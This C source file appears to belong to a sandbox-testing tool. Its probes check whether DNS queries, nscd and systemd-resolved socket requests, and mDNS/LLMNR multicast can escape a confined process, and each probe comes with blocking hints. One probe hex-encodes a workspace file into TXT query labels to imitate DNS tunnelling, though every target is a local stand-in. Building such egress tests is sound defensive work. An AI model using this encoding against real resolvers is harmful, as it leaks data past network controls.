/* dns: queries carrying the token to resolvers the host owns: its fake DNS
 * server (UDP, TCP, through libc), stand-ins for the resolver daemons a libc
 * reaches over UNIX sockets (nscd, systemd-resolved), and the multicast
 * groups (mDNS, LLMNR) joined on lo only. The host's log of the names asked
 * is the evidence (DNS is the classic exfiltration path). */
#include "common.h"
#include "registry.h"

#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>

#define NSCD_VERSION 2
#define NSCD_GETAI 14

/* A standard query for name (dotted) of type qtype; returns its length, 0 if
 * the name does not fit or has a label over 63 bytes. */
static size_t build_query(const char *name, int qtype, unsigned char *q, size_t cap)
{
	size_t o = 12;

	if (cap < 12 + strlen(name) + 6)
		return 0;
	memset(q, 0, 12);
	q[0] = 0x43, q[1] = 0x54; /* id */
	q[2] = 0x01;		  /* recursion desired */
	q[5] = 1;		  /* one question */
	for (const char *label = name; *label;) {
		size_t len = strcspn(label, ".");
		if (len == 0 || len > 63)
			return 0;
		q[o++] = (unsigned char)len;
		memcpy(q + o, label, len);
		o += len;
		label += len + (label[len] == '.');
	}
	q[o++] = 0;
	q[o++] = (unsigned char)(qtype >> 8), q[o++] = (unsigned char)qtype;
	q[o++] = 0, q[o++] = 1; /* IN */
	return o;
}

static void token_name(const struct probe_env *env, char *name, size_t n)
{
	snprintf(name, n, "%s.cagetest.test", env->token);
}

static struct sockaddr_in resolver(const struct probe_env *env)
{
	return (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)env->dns),
				    .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
}

static int dns_send(const struct probe_env *env, const char *name, int qtype, int type, struct attempt *a)
{
	struct sockaddr_in sa = resolver(env);
	unsigned char pkt[2 + 512];
	size_t len = build_query(name, qtype, pkt + 2, sizeof(pkt) - 2);

	if (!len)
		return fail_at(a, "query", -EINVAL);
	if (type == SOCK_DGRAM)
		return send_bytes(env, AF_INET, type, 0, &sa, sizeof(sa), pkt + 2, len, a);
	/* over TCP the message is preceded by its length */
	pkt[0] = (unsigned char)(len >> 8), pkt[1] = (unsigned char)len;
	return send_bytes(env, AF_INET, type, 0, &sa, sizeof(sa), pkt, len + 2, a);
}

static int udp_attempt(const struct probe_env *env, struct attempt *a)
{
	char name[96];

	token_name(env, name, sizeof(name));
	return dns_send(env, name, ns_t_a, SOCK_DGRAM, a);
}
static int tcp_attempt(const struct probe_env *env, struct attempt *a)
{
	char name[96];

	token_name(env, name, sizeof(name));
	return dns_send(env, name, ns_t_a, SOCK_STREAM, a);
}
static enum observed dns_verify(const struct host_view *hv, char *d, size_t n)
{
	return v_heard(hv, CH_DNS, d, n);
}

/* The data-carrying shape exfiltration tools use: TXT, long labels of hex
 * (here a workspace file), the token first. */
static int exfil_attempt(const struct probe_env *env, struct attempt *a)
{
	char path[PATH_MAX], name[256], hex[181];
	_cleanup_free_ char *data = NULL;
	size_t len = 0, o;

	if (ppath(env, path, "ws/README.md") < 0 || read_file(path, 4096, &data, &len) < 0)
		return fail_at(a, "read ws/README.md", -ENOENT);
	for (size_t i = 0; i < 90; i++)
		snprintf(hex + 2 * i, 3, "%02x", i < len ? (unsigned char)data[i] : 0);
	o = (size_t)snprintf(name, sizeof(name), "%s", env->token);
	for (size_t i = 0; i < 3; i++)
		o += (size_t)snprintf(name + o, sizeof(name) - o, ".%.60s", hex + 60 * i);
	snprintf(name + o, sizeof(name) - o, ".cagetest.test");
	return dns_send(env, name, ns_t_txt, SOCK_DGRAM, a);
}

/* What getaddrinfo does underneath: res_ninit reads /etc/resolv.conf, then
 * the nameserver list is pointed at the host's resolver. */
static int libc_attempt(const struct probe_env *env, struct attempt *a)
{
	struct __res_state st;
	unsigned char answer[512];
	char name[96];
	int k, herr, err;

	memset(&st, 0, sizeof(st));
	if (res_ninit(&st) < 0)
		return fail_at(a, "res_ninit", -EIO);
	st.nscount = 1;
	st.nsaddr_list[0] = resolver(env);
	st.retry = 1;
	st.retrans = 2;
	token_name(env, name, sizeof(name));
	errno = 0;
	k = res_nquery(&st, name, ns_c_in, ns_t_a, answer, sizeof(answer));
	err = errno;
	herr = st.res_h_errno;
	res_nclose(&st);
	/* NXDOMAIN: the resolver answered */
	if (k >= 0 || herr == HOST_NOT_FOUND)
		return 0;
	snprintf(a->detail, sizeof(a->detail), "res_nquery: %s (errno %s)", hstrerror(herr), err ? errno_name(-err) : "0");
	return err ? -err : -EHOSTUNREACH;
}

/* connect to run/NAME, send req, wait for the stand-in's answer. */
static int unix_request(const struct probe_env *env, const char *sock, const void *req, size_t len, struct attempt *a)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	char answer[256];
	_cleanup_close_ int fd = -1;

	if (fmt(sa.sun_path, sizeof(sa.sun_path), "%s/%s", env->run, sock) < 0)
		return fail_at(a, "socket path", -ENAMETOOLONG);
	if ((fd = open_socket(AF_UNIX, SOCK_STREAM, 0, a)) < 0)
		return fd;
	bind_source(env, fd, (struct sockaddr *)&sa, a);
	/* every step is tried: only the answer tells (see send_msg) */
	int r = connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ? fail_at(a, "connect", neg_errno()) : 0;
	if (write_all(fd, req, len) < 0 && r == 0)
		r = fail_at(a, "write", neg_errno());
	if (read(fd, answer, sizeof(answer)) <= 0 && r == 0)
		r = fail_at(a, "no answer", -ETIMEDOUT);
	return r;
}

/* nscd's wire format: int32 version, type, key length, then the key. */
static int nscd_attempt(const struct probe_env *env, struct attempt *a)
{
	struct {
		int32_t version, type, key_len;
		char key[96];
	} req = {NSCD_VERSION, NSCD_GETAI, 0, ""};

	token_name(env, req.key, sizeof(req.key));
	req.key_len = (int32_t)strlen(req.key) + 1;
	return unix_request(env, "nscd.sock", &req, offsetof(__typeof__(req), key) + (size_t)req.key_len, a);
}
static enum observed nscd_verify(const struct host_view *hv, char *d, size_t n)
{
	return v_heard(hv, CH_NSCD, d, n);
}

/* nss-resolve's call to systemd-resolved: varlink, JSON ending in NUL. */
static int varlink_attempt(const struct probe_env *env, struct attempt *a)
{
	char name[96], req[256];
	int len;

	token_name(env, name, sizeof(name));
	len = snprintf(req, sizeof(req),
		       "{\"method\":\"io.systemd.Resolve.ResolveHostname\",\"parameters\":{\"name\":\"%s\",\"family\":2}}",
		       name);
	return unix_request(env, "resolved.sock", req, (size_t)len + 1, a);
}
static enum observed varlink_verify(const struct host_view *hv, char *d, size_t n)
{
	return v_heard(hv, CH_RESOLVED, d, n);
}

static int mcast_arm(const struct probe_env *env, int tap, const char *where, char *why, size_t n)
{
	if (env->taps & tap)
		return 0;
	snprintf(why, n, "the host could not join %s on lo only (a real responder holds the port, or lo cannot join "
			 "groups): not sending multicast",
		 where);
	return -EOPNOTSUPP;
}

/* A query to a multicast group, out of lo only and with TTL 0: it cannot
 * leave this machine. */
static int mcast_send(const char *name, const char *group, int port, struct attempt *a)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	struct in_addr lo = {htonl(INADDR_LOOPBACK)};
	unsigned char pkt[512];
	size_t len = build_query(name, ns_t_a, pkt, sizeof(pkt));
	unsigned char ttl = 0;
	_cleanup_close_ int fd = open_socket(AF_INET, SOCK_DGRAM, 0, a);

	if (fd < 0)
		return fd;
	pkt[0] = pkt[1] = pkt[2] = 0; /* mDNS and LLMNR: id 0, no recursion */
	inet_pton(AF_INET, group, &sa.sin_addr);
	if (setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &lo, sizeof(lo)) < 0)
		return fail_at(a, "IP_MULTICAST_IF 127.0.0.1", neg_errno());
	if (setsockopt(fd, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof(ttl)) < 0)
		return fail_at(a, "IP_MULTICAST_TTL 0", neg_errno());
	if (sendto(fd, pkt, len, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return fail_at(a, "sendto", neg_errno());
	return 0;
}

static int mdns_arm(const struct probe_env *env, char *why, size_t n)
{
	return mcast_arm(env, TAP_MDNS, "224.0.0.251:5353", why, n);
}
static int mdns_attempt(const struct probe_env *env, struct attempt *a)
{
	char name[96];

	snprintf(name, sizeof(name), "%s.cagetest.local", env->token);
	return mcast_send(name, "224.0.0.251", 5353, a);
}
static enum observed mdns_verify(const struct host_view *hv, char *d, size_t n)
{
	return v_heard(hv, CH_MDNS, d, n);
}

static int llmnr_arm(const struct probe_env *env, char *why, size_t n)
{
	return mcast_arm(env, TAP_LLMNR, "224.0.0.252:5355", why, n);
}
/* LLMNR resolves single-label names. */
static int llmnr_attempt(const struct probe_env *env, struct attempt *a)
{
	return mcast_send(env->token, "224.0.0.252", 5355, a);
}
static enum observed llmnr_verify(const struct host_view *hv, char *d, size_t n)
{
	return v_heard(hv, CH_LLMNR, d, n);
}

const struct probe dns_probes[] = {
	{
		.id = "dns.udp_query",
		.effect = EFFECT_NET_EGRESS,
		.summary = "DNS query over UDP to the host's resolver, the token in the name",
		.evidence = "the fake DNS server logged the query" FROM_SRC4,
		.blocked_by = NO_NET " (not Landlock: TCP only)",
		.hint = "DNS is egress: block UDP too, or resolve through a filtering proxy",
		.attempt = udp_attempt,
		.verify = dns_verify,
	},
	{
		.id = "dns.tcp_query",
		.effect = EFFECT_NET_EGRESS,
		.summary = "DNS query over TCP to the host's resolver",
		.evidence = "the fake DNS server logged the query" FROM_SRC4,
		.blocked_by = "bwrap --unshare-net, Landlock ABI >= 4, seccomp socket filter",
		.hint = "DNS over TCP is ordinary TCP egress",
		.attempt = tcp_attempt,
		.verify = dns_verify,
	},
	{
		.id = "dns.libc_resolver",
		.effect = EFFECT_NET_EGRESS,
		.summary = "the libc resolver (res_ninit, res_nquery) with its nameserver set to the host's resolver",
		.evidence = "the fake DNS server logged the query name",
		.blocked_by = NO_NET,
		.hint = "the libc resolver is plain UDP/TCP: the same rules as any egress apply",
		.attempt = libc_attempt,
		.verify = dns_verify,
	},
	{
		.id = "dns.txt_exfil",
		.effect = EFFECT_NET_EGRESS,
		.summary = "TXT query whose long hex labels carry a workspace file (the shape of DNS tunnels)",
		.evidence = "the fake DNS server logged the long query name" FROM_SRC4,
		.blocked_by = NO_NET,
		.hint = "a resolver that forwards any name forwards any data: no DNS without egress",
		.attempt = exfil_attempt,
		.verify = dns_verify,
	},
	{
		.id = "dns.nscd_socket",
		.effect = EFFECT_IPC_HOST,
		.summary = "nscd's protocol (GETAI) to a host nscd stand-in over a UNIX socket",
		.evidence = "the nscd stand-in (run/nscd.sock) heard the probe" FROM_SRC_UNIX,
		.blocked_by = "hiding /var/run/nscd (bwrap, tmpfs), Landlock ABI >= 9, seccomp AF_UNIX filter, Seatbelt",
		.hint = "a host resolver daemon resolves for the box even without network: hide its socket",
		.attempt = nscd_attempt,
		.verify = nscd_verify,
	},
	{
		.id = "dns.resolved_varlink",
		.effect = EFFECT_IPC_HOST,
		.summary = "varlink io.systemd.Resolve.ResolveHostname to a systemd-resolved stand-in",
		.evidence = "the resolved stand-in (run/resolved.sock) heard the probe" FROM_SRC_UNIX,
		.blocked_by = "hiding /run/systemd/resolve (bwrap, tmpfs), Landlock ABI >= 9, seccomp AF_UNIX filter",
		.hint = "nss-resolve talks to resolved over varlink: hide /run/systemd/resolve from the box",
		.attempt = varlink_attempt,
		.verify = varlink_verify,
	},
	{
		.id = "dns.mdns",
		.effect = EFFECT_NET_EGRESS,
		.summary = "multicast DNS query to 224.0.0.251:5353, out of lo with TTL 0",
		.evidence = "the host's socket joined to 224.0.0.251 on lo logged the query name",
		.blocked_by = NO_NET "; not Landlock",
		.hint = "multicast reaches every responder on the link: filter UDP or unshare the network",
		.arm = mdns_arm,
		.attempt = mdns_attempt,
		.verify = mdns_verify,
	},
	{
		.id = "dns.llmnr",
		.effect = EFFECT_NET_EGRESS,
		.summary = "LLMNR query for the token to 224.0.0.252:5355, out of lo with TTL 0",
		.evidence = "the host's socket joined to 224.0.0.252 on lo logged the query name",
		.blocked_by = NO_NET "; not Landlock",
		.hint = "LLMNR is link-local multicast: filter UDP or unshare the network",
		.arm = llmnr_arm,
		.attempt = llmnr_attempt,
		.verify = llmnr_verify,
	},
};
PROBE_TABLE_END(dns);
